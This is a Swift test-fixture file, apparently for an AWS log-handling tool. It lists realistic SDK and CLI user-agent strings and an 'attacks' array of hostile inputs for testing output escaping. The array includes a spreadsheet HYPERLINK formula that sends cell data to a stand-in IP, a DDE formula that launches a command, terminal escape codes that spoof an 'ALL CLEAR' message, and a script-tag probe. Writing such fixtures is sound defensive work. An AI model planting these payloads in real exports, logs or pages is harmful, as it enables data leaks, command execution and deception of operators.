/// What callers say they are.
enum UserAgent {
  static let commandLine =
    "aws-cli/2.27.41 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0-1029-aws md/arch#x86_64 "
    + "lang/python#3.13.4 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe"
  static let python =
    "Boto3/1.39.3 md/Botocore#1.39.3 ua/2.1 os/linux#6.1.141 md/arch#aarch64 "
    + "lang/python#3.12.11 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.39.3"
  static let java =
    "aws-sdk-java/2.31.68 md/io#sync md/http#Apache ua/2.1 os/Linux#5.10.238 "
    + "lang/java#21.0.7 md/OpenJDK_64-Bit_Server_VM#21.0.7+6-LTS md/vendor#Amazon.com_Inc."
  static let terraform =
    "APN/1.0 HashiCorp/1.0 Terraform/1.12.2 (+https://www.terraform.io) "
    + "terraform-provider-aws/6.2.0 (+https://registry.terraform.io/providers/hashicorp/aws)"
  static let go = "aws-sdk-go-v2/1.36.5 ua/2.1 os/linux lang/go#1.24.4 md/GOOS#linux"
  static let browser =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    + "Chrome/138.0.0.0 Safari/537.36"

  /// What anyone can send, even with a call that is denied: formulas for a spreadsheet, colours for
  /// a terminal, markup for a web page.
  static let attacks = [
    #"=HYPERLINK("http://203.0.113.9/?leak="&A1,"open")"#,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "\t=1+1",
    "\u{FF1D}1+1",
    "\u{1B}[2J\u{1B}[31mALL CLEAR\u{1B}[0m",
    "<script>alert('trail')</script>",
    "caf\u{E9} \u{1F980} \u{2028}line",
  ]
}
